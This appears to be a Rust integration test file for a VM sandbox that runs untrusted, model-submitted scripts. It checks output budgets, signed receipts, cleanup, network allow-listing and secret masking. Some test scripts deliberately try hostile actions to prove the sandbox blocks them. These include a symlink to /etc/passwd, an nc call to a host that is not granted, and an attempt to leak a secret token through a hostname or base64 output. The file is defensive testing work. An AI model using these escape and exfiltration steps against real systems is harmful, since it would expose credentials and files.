//! Calls that run: M1, M2, M4, M5, M6, M8, M10 and M11.

use std::fs;

use serde_json::{Value, json};
use vmcell::{Vm, secret::Secret};

use super::{Fixture, policy};
use crate::{
    builder_with_link,
    network::{FixedResolver, RecordingDialer, WebServer},
};

const VALUE: &str = "correct-horse/battery+staple=42";

/// Returns the SHA-256 of bytes, from a program of this machine.
fn sha256(bytes: &[u8]) -> String {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), bytes).unwrap();
    let output = std::process::Command::new("sha256sum")
        .arg(file.path())
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    text.split(' ').next().unwrap().to_owned()
}

#[tokio::test]
async fn a_request_runs_within_its_budget_and_leaves_only_its_receipt() {
    let fixture = Fixture::new(policy());
    let script = "read line; echo \"$line\" > result; seq 1 10000; echo noise >&2; pwd >&2; \
                  ln -s /etc/passwd link; stat -c %a /work/main.sh >&2";
    let answer = fixture
        .run(json!({
            "language": "sh",
            "files": [
                { "path": "/work/main.sh", "content": script, "mode": "750" },
                { "path": "/work/data/bytes", "content_base64": "AP8=" },
            ],
            "command": ["sh", "/work/main.sh"],
            "stdin": "from the model\n",
            "max_output_bytes": 1000,
            "outputs": ["/work/result", "/work/data/bytes", "/work/missing", "/work/link"],
        }))
        .await;
    // M8, and what is added to it.
    assert_eq!(answer["failure"], Value::Null, "{answer:#}");
    assert_eq!(
        (&answer["exit_code"], &answer["timed_out"]),
        (&json!(0), &json!(false))
    );
    assert_eq!(answer["stderr"], "noise\n/work\n750\n");
    assert_eq!(answer["retention"], "destroy");
    assert_eq!(answer["cause"], "code");
    assert!(answer["usage"]["peak_memory_bytes"].as_u64().unwrap() > 0);
    // M2 and M10: the beginning and the end of what was too much.
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.starts_with("1\n2\n") && stdout.ends_with("\n10000\n"),
        "{stdout}"
    );
    assert_eq!(stdout.len(), 1000);
    assert_eq!(answer["stdout_dropped_bytes"], 48_894 - 1000);
    let outputs = &answer["outputs"];
    assert_eq!(outputs[0]["content"], "from the model\n");
    assert_eq!(outputs[1]["content_base64"], "AP8=");
    assert!(outputs[2]["error"].is_string(), "{outputs}");
    // It leads out of the folder.
    assert!(outputs[3]["error"].is_string(), "{outputs}");

    // M11
    let receipt = fixture.receipt(&answer);
    assert_eq!(receipt["image"]["name"], "small");
    assert_eq!(
        receipt["image"]["sparse_sha256"].as_str().unwrap().len(),
        64
    );
    assert_eq!(receipt["kernel"].as_str().unwrap().len(), 64);
    assert_eq!(receipt["agent"].as_str().unwrap().len(), 64);
    assert_eq!(receipt["inputs"][0]["sha256"], sha256(script.as_bytes()));
    assert_eq!(
        receipt["inputs"][1],
        json!({
            "path": "/work/data/bytes", "bytes": 2, "sha256": sha256(b"\0\xff"),
        })
    );
    assert_eq!(receipt["stdin"]["sha256"], sha256(b"from the model\n"));
    assert_eq!(receipt["stdout"]["sha256"], sha256(stdout.as_bytes()));
    assert_eq!(receipt["stdout"]["dropped_bytes"], 47_894);
    assert_eq!(receipt["outputs"][0]["sha256"], sha256(b"from the model\n"));
    assert_eq!(receipt["command"], json!(["sh", "/work/main.sh"]));
    assert_eq!(receipt["exit"]["code"], 0);
    assert_eq!(
        (&receipt["failure"], &receipt["sandbox_id"]),
        (&Value::Null, &answer["sandbox_id"])
    );
    assert_eq!(answer["receipt"]["sequence"], 1);
    assert_eq!(fixture.verified(), 1);

    // Nothing is left.
    assert_eq!(fixture.kept(), Vec::<String>::new());
    let id = answer["sandbox_id"].as_str().unwrap();
    assert!(Vm::list().await.unwrap().iter().all(|vm| vm.id != id));

    // A call that is dropped leaves nothing either, not even a receipt.
    let request = json!({ "command": ["sleep", "1000"] });
    let dropped = tokio::time::timeout(std::time::Duration::from_millis(500), fixture.run(request));
    assert!(dropped.await.is_err());
    assert_eq!((fixture.kept().len(), fixture.verified()), (0, 1));
}

#[tokio::test]
async fn only_granted_hosts_are_reached_and_secrets_are_not_shown() {
    let server = WebServer::start().await;
    let (allowed, port) = (format!("web.test:{}", server.port()), server.port());
    let mut policy = policy().network_grant("web", [allowed.clone()]);
    let caller = policy.callers.get_mut("default").unwrap();
    caller.network.insert("web".to_owned());
    let vm = builder_with_link()
        .resolver(FixedResolver::to(&["93.184.216.34"]))
        .dialer(RecordingDialer::to(server.address));
    let token = Secret::new("token", VALUE.to_owned()).unwrap();
    let fixture = Fixture::with(policy, |tool| tool.vm(vm).secret(token));
    let fetch =
        |host: &str| format!("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc {host} {port} | tail -n 1");
    let script = format!(
        "{}; {}; nc $TOKEN.test 1; echo \"$TOKEN\"; echo \"$TOKEN\" | base64 >&2; \
         echo \"$TOKEN\" > out; printf %s \"$TOKEN\" | wc -c",
        fetch("web.test"),
        fetch("other.test")
    );
    let secrets = json!({ "TOKEN": { "ref": "token" } });
    let answer = fixture
        .run(json!({
            "command": ["sh", "-c", script],
            "network": { "mode": "bridge", "allow": [{ "host": "web.test", "port": port }] },
            "secrets": secrets,
            "outputs": ["/work/out"],
        }))
        .await;
    // M4
    assert_eq!(server.clients(), 1);
    let masked = "*".repeat(VALUE.len());
    let expected = format!("hello\n{masked}\n{}\n", VALUE.len());
    assert_eq!(answer["stdout"], expected, "{answer:#}");
    assert_eq!(answer["outputs"][0]["content"], format!("{masked}\n"));
    assert!(
        answer["network_denials"].to_string().contains("other.test"),
        "{answer:#}"
    );
    let receipt = fixture.receipt(&answer);
    assert_eq!(receipt["network_grants"], json!(["web"]));
    assert_eq!(
        receipt["secrets"],
        json!([{ "variable": "TOKEN", "name": "token" }])
    );
    let connections = receipt["connections"].as_array().unwrap();
    let connection = |wanted: &str| {
        let found = connections.iter().find(|it| it["wanted"] == wanted);
        found.unwrap_or_else(|| panic!("{receipt:#}"))
    };
    let decision = connection(&allowed)["decision"].as_str().unwrap();
    assert!(decision.starts_with("allowed"), "{decision}");
    let denied = connections
        .iter()
        .filter(|it| it["decision"].as_str().unwrap().starts_with("denied"));
    assert!(denied.count() >= 1, "{receipt:#}");

    // M5: never in arguments, and for one operation.
    let literal = fixture
        .run(json!({ "command": ["echo", VALUE], "secrets": secrets }))
        .await;
    assert_eq!(literal["failure"]["kind"], "invalid_request", "{literal:#}");
    let next = fixture
        .run(json!({ "command": ["sh", "-c", "echo ${TOKEN-none}"] }))
        .await;
    assert_eq!(next["stdout"], "none\n");

    // M6: neither the answers nor anything that was recorded.
    let log = fs::read_to_string(fixture.tool.receipts().folder().join("log")).unwrap();
    for text in [log, answer.to_string(), literal.to_string()] {
        assert!(
            !text.contains("battery+staple") && !text.contains("Y29ycmVjdC1ob3JzZ"),
            "{text}"
        );
    }
    assert_eq!(fixture.verified(), 3);
}
